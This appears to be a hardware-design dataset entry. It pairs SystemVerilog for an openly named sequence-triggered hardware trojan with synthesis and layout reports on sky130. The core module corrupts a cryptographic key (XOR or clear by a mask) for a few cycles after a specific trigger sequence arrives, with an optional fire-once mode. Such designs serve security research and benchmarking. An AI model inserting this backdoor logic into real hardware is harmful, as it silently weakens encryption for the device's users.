--- src/rtl/trojan_pkg.sv ---
// rtl/trojan_pkg.sv - shared types, mode constants and width helper for trojan_seq
package trojan_pkg;

    typedef enum logic [1:0] {
        ST_IDLE   = 2'd0,
        ST_MATCH  = 2'd1,
        ST_ACTIVE = 2'd2
    } state_e;

    localparam int MODE_XOR   = 0;
    localparam int MODE_CLEAR = 1;

    function automatic int clog2(input int value);
        int r;
        r = 0;
        while ((1 << r) < value) begin
            r = r + 1;
        end
        return r;
    endfunction

endpackage

--- src/rtl/trojan_seq_if.sv ---
// rtl/trojan_seq_if.sv - trigger/key/payload bundle between key register and key schedule
interface trojan_seq_if #(
    parameter int KEY_W  = 56,
    parameter int TRIG_W = 32,
    parameter int IDX_W  = 2
);
    logic              trig_valid;
    logic [1:TRIG_W]   trigger;
    logic [KEY_W-1:0]  key;
    logic [KEY_W-1:0]  payload;
    logic [IDX_W-1:0]  match_idx;
    logic              active;

    modport master (
        output trig_valid, trigger, key,
        input  payload, match_idx, active
    );

    modport slave (
        input  trig_valid, trigger, key,
        output payload, match_idx, active
    );
endinterface

--- src/rtl/trojan_seq_det.sv ---
// rtl/trojan_seq_det.sv - ordered sequence detector with overlap restart on element 0
module trojan_seq_det
    import trojan_pkg::*;
#(
    parameter int                          FIELD_W  = 4,
    parameter int                          SEQ_LEN  = 3,
    parameter logic [SEQ_LEN*FIELD_W-1:0]  SEQ_VALS = 12'hFA5,
    parameter int                          IDX_W    = 2
) (
    input  logic               clk,
    input  logic               reset,
    input  logic               trig_valid_i,
    input  logic [FIELD_W-1:0] field_i,
    input  logic               clear_i,
    output logic [IDX_W-1:0]   idx_o,
    output logic [IDX_W-1:0]   idx_nxt_o,
    output logic               hit_o
);
    logic [IDX_W-1:0]   idx_q, idx_d;
    logic [FIELD_W-1:0] cur_val;
    logic [FIELD_W-1:0] first_val;

    // Element 0 sits in the MSBs of the packed sequence.
    assign first_val = SEQ_VALS[(SEQ_LEN-1)*FIELD_W +: FIELD_W];
    assign cur_val   = SEQ_VALS[(SEQ_LEN-1-int'(idx_q))*FIELD_W +: FIELD_W];

    always_comb begin
        idx_d = idx_q;
        hit_o = 1'b0;
        if (clear_i) begin
            idx_d = '0;
        end else if (trig_valid_i) begin
            if (field_i == cur_val) begin
                if (int'(idx_q) == SEQ_LEN - 1) begin
                    hit_o = 1'b1;
                    idx_d = '0;
                end else begin
                    idx_d = idx_q + IDX_W'(1);
                end
            end else if (field_i == first_val) begin
                idx_d = IDX_W'(1);
            end else begin
                idx_d = '0;
            end
        end
    end

    always_ff @(posedge clk) begin
        if (reset) begin
            idx_q <= '0;
        end else begin
            idx_q <= idx_d;
        end
    end

    assign idx_o     = idx_q;
    assign idx_nxt_o = idx_d;
endmodule

--- src/rtl/trojan_seq.sv ---
// rtl/trojan_seq.sv - sequence-triggered key corruptor; TROJAN_ONESHOT_EN makes it fire once per reset
module trojan_seq
    import trojan_pkg::*;
#(
    parameter int                          KEY_W        = 56,
    parameter int                          TRIG_W       = 32,
    parameter int                          FIELD_W      = 4,
    parameter int                          SEQ_LEN      = 3,
    parameter logic [SEQ_LEN*FIELD_W-1:0]  SEQ_VALS     = 12'hFA5,
    parameter int                          HOLD_CYCLES  = 4,
    parameter int                          MODE         = 0,
    parameter logic [KEY_W-1:0]            PAYLOAD_MASK = 56'h1
) (
    input  logic         clk,
    input  logic         reset,
    trojan_seq_if.slave  bus
);
    localparam int IDX_W  = clog2(SEQ_LEN + 1);
    localparam int CNT_RW = clog2(HOLD_CYCLES + 1);
    localparam int CNT_W  = (CNT_RW < 1) ? 1 : CNT_RW;

    state_e             state_q, state_d;
    logic [CNT_W-1:0]   cnt_q, cnt_d;
    logic               spent_q;
    logic               hit;
    logic               active;
    logic [IDX_W-1:0]   idx;
    logic [IDX_W-1:0]   idx_nxt;
    logic [FIELD_W-1:0] field;

    assign field = bus.trigger[1:FIELD_W];

    trojan_seq_det #(
        .FIELD_W  (FIELD_W),
        .SEQ_LEN  (SEQ_LEN),
        .SEQ_VALS (SEQ_VALS),
        .IDX_W    (IDX_W)
    ) u_det (
        .clk          (clk),
        .reset        (reset),
        .trig_valid_i (bus.trig_valid),
        .field_i      (field),
        .clear_i      ((state_q == ST_ACTIVE) || spent_q),
        .idx_o        (idx),
        .idx_nxt_o    (idx_nxt),
        .hit_o        (hit)
    );

    always_comb begin
        state_d = state_q;
        cnt_d   = cnt_q;
        case (state_q)
            ST_ACTIVE: begin
                // HOLD_CYCLES == 0 leaves the window open until reset.
                if (HOLD_CYCLES != 0) begin
                    if (cnt_q == CNT_W'(1)) begin
                        state_d = ST_IDLE;
                        cnt_d   = '0;
                    end else begin
                        cnt_d = cnt_q - CNT_W'(1);
                    end
                end
            end
            default: begin
                if (hit) begin
                    state_d = ST_ACTIVE;
                    cnt_d   = CNT_W'(HOLD_CYCLES);
                end else if (idx_nxt != '0) begin
                    state_d = ST_MATCH;
                end else begin
                    state_d = ST_IDLE;
                end
            end
        endcase
    end

    always_ff @(posedge clk) begin
        if (reset) begin
            state_q <= ST_IDLE;
            cnt_q   <= '0;
        end else begin
            state_q <= state_d;
            cnt_q   <= cnt_d;
        end
    end

`ifdef TROJAN_ONESHOT_EN
    logic spent_d;
    assign spent_d = spent_q || ((state_q == ST_ACTIVE) && (state_d == ST_IDLE));

    always_ff @(posedge clk) begin
        if (reset) begin
            spent_q <= 1'b0;
        end else begin
            spent_q <= spent_d;
        end
    end
`else
    assign spent_q = 1'b0;
`endif

    assign active = (state_q == ST_ACTIVE);

    always_comb begin
        bus.payload = bus.key;
        if (active) begin
            if (MODE == MODE_XOR) begin
                bus.payload = bus.key ^ PAYLOAD_MASK;
            end else if (MODE == MODE_CLEAR) begin
                bus.payload = bus.key & ~PAYLOAD_MASK;
            end
        end
    end

    assign bus.active    = active;
    assign bus.match_idx = idx;
endmodule
--- src/flat_wrapper.sv ---
// flat-port wrapper written by rule: the top's interface ports become plain ports
module trojan_seq_flat import trojan_pkg::*;
#(
    parameter int                          KEY_W        = 56,
    parameter int                          TRIG_W       = 32,
    parameter int                          FIELD_W      = 4,
    parameter int                          SEQ_LEN      = 3,
    parameter logic [SEQ_LEN*FIELD_W-1:0]  SEQ_VALS     = 12'hFA5,
    parameter int                          HOLD_CYCLES  = 4,
    parameter int                          MODE         = 0,
    parameter logic [KEY_W-1:0]            PAYLOAD_MASK = 56'h1
)
  (clk, reset, bus_trig_valid, bus_trigger, bus_key, bus_payload, bus_match_idx, bus_active);
  trojan_seq_if #(.KEY_W(KEY_W), .TRIG_W(TRIG_W)) bus_i ();
  input  logic clk;
  input  logic reset;
  input wire logic [$bits(bus_i.trig_valid)-1:0] bus_trig_valid;
  input wire logic [$bits(bus_i.trigger)-1:0] bus_trigger;
  input wire logic [$bits(bus_i.key)-1:0] bus_key;
  output wire logic [$bits(bus_i.payload)-1:0] bus_payload;
  output wire logic [$bits(bus_i.match_idx)-1:0] bus_match_idx;
  output wire logic [$bits(bus_i.active)-1:0] bus_active;
  assign bus_i.trig_valid = bus_trig_valid;
  assign bus_i.trigger = bus_trigger;
  assign bus_i.key = bus_key;
  assign bus_payload = bus_i.payload;
  assign bus_match_idx = bus_i.match_idx;
  assign bus_active = bus_i.active;
  trojan_seq #(.KEY_W(KEY_W), .TRIG_W(TRIG_W), .FIELD_W(FIELD_W), .SEQ_LEN(SEQ_LEN), .SEQ_VALS(SEQ_VALS), .HOLD_CYCLES(HOLD_CYCLES), .MODE(MODE), .PAYLOAD_MASK(PAYLOAD_MASK)) u_core (.clk(clk), .reset(reset), .bus(bus_i));
endmodule
--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_seq_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_seq_if.sv /design/src/rtl/trojan_seq_det.sv /design/src/rtl/trojan_seq.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 10
export CORE_UTILIZATION = 27
export DETAILED_ROUTE_END_ITERATION = 8
export MAX_ROUTING_LAYER = met4
export PLACE_DENSITY = 0.91
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
--- constraint.sdc ---
create_clock -name clk -period 1.2 [get_ports clk]
set_input_delay 0.12 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.12 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
Word level (Yosys, flattened, before mapping):

Index checks and enable logic that the tools add are counted.
W data, S select, Z words.

* add/sub/neg operators: 3
* equal/unequal tests: 6
* shift-type cells: 1
* mux-type cells: 17
* bitwise operators: 1
* reductions and logical operators: 2

Operator list (number)
* $shiftx A12 B32 Y4 const A: 1
* $mux W2: 7
* $mux W3: 3
* $mux W1: 7
* $eq A2 B2 Y1 const B: 2
* $eq A4 B4 Y1: 1
* $eq A4 B4 Y1 const B: 1
* $reduce_bool A2 Y1: 2
* $eq A3 B1 Y1 const B: 1
* $sub A2 B2 Y3 const A: 1
* $sub A3 B1 Y3 const B: 1
* $add A2 B1 Y2 const B: 1
* $ne A2 B1 Y1 const B: 1
* $not A1 Y1: 1

* register bits: 7
* input port bits: 91
* logic and storage cells: 33

Logic depth before layout (Yosys ltp):

* depth after elaboration: 10
* depth in mapped cells: 7
* depth with buffers taken out: 7

Cells and area by module:

A second synthesis with hierarchy kept.

* cells, all modules: 124
* area, all modules: 859.6 µm²

Modules (own cells, without submodules)
* trojan_seq: times used 1, cells each 94, area an instance 695.7 µm², seq. area each 100.1 µm²
* trojan_seq_det: times used 1, cells each 30, area an instance 163.9 µm², seq. area each 40.0 µm²

Worst setup path after synthesis:

No wires, ideal clock.

* kind: flip-flop to flip-flop
* start: register u_core.cnt_q[0]
* end: register u_core.cnt_q[2]
* setup time: 0.066 ns
* data arrival time: 0.986 ns
* slack: 0.148 ns
* stages on the path, launching flop included: 7
* period minus slack after synthesis: 1.052 ns
* cells stage by stage: dfxtp_1 -> inv_1 -> ha_1 -> xnor2_1 -> o21ai_0 -> nand2_1 -> a21oi_2

* cells in the longest elaborated chain, start to end: 3

Ends and longest elaborated chain
* start: declaration: RTL line trojan_seq.sv:23 `logic [CNT_W-1:0] cnt_q, cnt_d;`
* start signal: assignment: RTL line trojan_seq.sv:83 `cnt_q <= cnt_d;`
* $sub A3 B1 Y3 / $eq A3 B1 Y1 (equally long branches): RTL line trojan_seq.sv:60, trojan_seq.sv:56
* $mux W3 *: RTL line trojan_seq.sv:56 `if (cnt_q == CNT_W'(1)) begin`
* $mux W3 *: RTL line trojan_seq.sv:52 `case (state_q)`

Mark *: on every way between the ends. The rest lies on a longest branch, timed or not.
A chain may end at the register's enable or synchronous reset.

Worst setup path after layout:

* start: register u_core.state_q[1]
* end: output port bus_payload[0]

* cells in the longest elaborated chain, start to end: 2

Ends and longest elaborated chain
* start: declaration: RTL line trojan_seq.sv:22 `state_e state_q, state_d;`
* start signal: assignment: RTL line trojan_seq.sv:82 `state_q <= state_d;`
* $eq A2 B2 Y1: RTL line trojan_seq.sv:102 `assign active = (state_q == ST_ACTIVE);`
* $mux W1: RTL line trojan_seq.sv:106 `if (active) begin`
* end: declaration: RTL line flat_wrapper.sv:20 `output wire logic [$bits(bus_i.payload)-1:0] bus_payload;`

No other way between the ends.

==> metrics.txt <==
WP data required=1.08 ns; Top Layer Used=met4; leakage=0.258 nW; die area=3380 sq um; MaxCap Viol Count=0; largest net degree at the start of global routing=8; Nets=169; Slew @ Worst Pin=0.254 ns; total CTS buffers=3; starting density of the core=28.1%; Placed Cells=114; YS warnings=0; global-route wire length before repair=1690 um; CTS tree=done; Routed Antenna Nets=0; worst setup path start=u_core.state_q[1]$_SDFFE_PP0P_; Post-Layout Cell Count=119; Pwr Density=869 nW/um^2; critical path's top delay family=flip-flops; slowest stage delay, CP=0.30 ns; setup TNS=0 ns; Primary FF master, synth=dfxtp_1; post-layout util=19.5%; outcome=finished clean; Startpoint Class=flop; final WL=1090 um; layout cells sized above 1=38.7%; crit path capture=bus_payload[0]; Hold Buf Count CTS=0; Critical Path Slowest Stage Cell=dfxtp_1; Distinct cells, synth=20; 1st-pass router iterations=4; CTS H-tree lvls=1; CP arrival=0.99 ns; Post-DP HPWL=908 um; final count of hold timing violations=0; Crit Path Max Fanout=3; hold crit path type=in2reg; Post-synth EDFFs=0; drc violations=0; Met3 Routed Length=176 um; Worst path depth=4; period utilisation layout=92.4%; Layout Skew=0.00501 ns; worst vdd ir=586 uV; WL met2=490 um; grt total ovfl=0; critical path class=reg2out; Worst Path Buf+Inv=2; Syn Inst Count=114; r2r worst-path depth=4; RSZ-0062 raised after global routing=false; pre-CTS WS=0.0755 ns; crit path capture type=output pin; # rows=20; critical path, cell by cell=inv_1 > nor2_4 > xor2_1 > buf_2; worst skew pair latency=0.25 ns; Final Critical Period=1.11 ns; register bit total from synthesis=7; antenna violations before repair=0; synthesized area=852 sq um; antenna cells=0; # setup viols final=0; relative slew slack=83.0%; die width=58.2 um; CTS sink cnt=7; wire per inst=9.12 um; Metal-1 WL=372 um; syn nets=207; vias in the first global route=427; asr flop ratio synth=0%; PnR worst setup slack=0.0916 ns; R2R Path Start=u_core.cnt_q[0]$_SDFFE_PP0P_; area grow syn2layout=-30.8%; Seq/Total Area, Yosys=16.4%; Reg clk slew, reported paths=0.06 ns; Iter 0 DRT Violations=10; Root Buffer=clkbuf_4; routed vias/inst=3.86; # IOs=150; Die Ht=58.2 um; Layout fillers=343; total number of vias=459; RR Endpoint=u_core.cnt_q[1]$_SDFFE_PP0P_; clk buf depth=2; core area=3030 sq um; reg-to-reg slack, setup=0.12 ns; Port Buffer Count=11; All-Layer GR Usage=6.73%; Max Freq=902 MHz; Placer Congestion=0.823; mean post-synth cell area=7.47 sq um; Final Slew Violations=0
[worst min-delay path by stage]
stage / depth (start not counted) / to / start
final: 2 / u_core.cnt_q[2]$_SDFFE_PP0P_ / reset
after global routing: 2 / u_core.state_q[0]$_SDFFE_PP0P_ / reset
after CTS: 2 / u_core.cnt_q[2]$_SDFFE_PP0P_ / reset
after detailed placement: 0 / bus_payload[16] / bus_key[16]
after global placement: 0 / bus_payload[16] / bus_key[16]
after floorplan: 1 / u_core.cnt_q[2]$_SDFFE_PP0P_ / reset
[through the flow]
step	instance area [sq um]	total power, mW	hold slack (ns)
final	589	0.512	0.106
after floorplan	852	0.462	0.182
after global routing	589	0.538	0.109
after CTS	584	0.519	0.0911
after global placement	549	0.298	0.240
after detailed placement	549	0.299	0.240
[cell type report]
cell class                 count  area, sq um  area share [%]
tap                           44         55.1            9.34
clock buffer                   3         22.5            3.82
inverter                      12         47.5            8.07
sequential                     7          141            24.0
clock inverter                 1         5.00           0.849
timing repair buffer          12         62.6            10.6
multi-input combinational     40          255            43.3
[kinds of logic after synthesis]
group                    Yosys count  synth area share, %
adder cells (fa/ha/maj)            2                 2.94
AO/OA/AOI/OAI                     10                 6.90
AND/OR/NAND/NOR                   26                 17.6
buffers and inverters             67                 54.0
flip-flops                         7                 16.4
XOR/XNOR                           2                 2.06
[flip-flops by register name, summed over array words and instances (netlist names)]
signal	flops
u_core.cnt_q	3
u_core.state_q	2
u_core.u_det.idx_o	2
[cells in the mapped netlist (2+ instances only)]
| cell | instances | area [sq um] |
|---|---|---|
| buf_4 | 55 | 413 |
| inv_1 | 9 | 33.8 |
| dfxtp_1 | 7 | 140 |
| nand2_1 | 6 | 22.5 |
| nand3_1 | 6 | 30.0 |
| nor2_1 | 6 | 22.5 |
| nand2_2 | 4 | 25.0 |
| o21ai_0 | 4 | 20.0 |
| a21oi_1 | 3 | 15.0 |
| ha_1 | 2 | 25.0 |
| inv_2 | 2 | 7.51 |
| nor2_4 | 2 | 22.5 |
[worst register-to-register path: stages, from the launching register on]
cell and delay (ns):
dfxtp_2 0.35, inv_1 0.05, ha_1 0.27, or2_0 0.21
a21oi_1 0.14
[repair_timing]
item	CTS	global route
endpoints found under the setup margin	1	5
buffers inserted	1	0
gates resized for setup	0	4
pin swaps	1	1
gates cloned	0	0
[power by group]
group          switching (mW)  internal, mW  total [mW]
combinational          0.0325        0.0219      0.0544
clock                  0.0951         0.122       0.217
sequential            0.00396         0.236       0.240
[routing by layer]
| layer | vias up | GRT usage [%] |
|---|---|---|
| met5 | - | - |
| met4 | 0 | 6.12 |
| met3 | 8 | 5.80 |
| met2 | 39 | 10.2 |
| met1 | 190 | 4.70 |
| li1 | 222 | - |
[placed cells by master (no fill, tap or decap)]
cell and instances:
nand3_1 6, nand2_1 6, clkbuf_4 3, dfxtp_2 1
inv_4 1, inv_2 2, dfxtp_1 6, o21ai_1 2
ha_1 2, buf_4 1, o21a_1 1, inv_1 9
buf_2 11, or2_0 1, a21oi_1 2, nand2_2 4
xnor2_1 1, clkinv_2 1, nor2_1 6, xor2_1 1
nor2_4 2, a21oi_2 2, nand4_4 1, o21ai_0 2
o211ai_1 1
(Power assumes the default switching activity.)
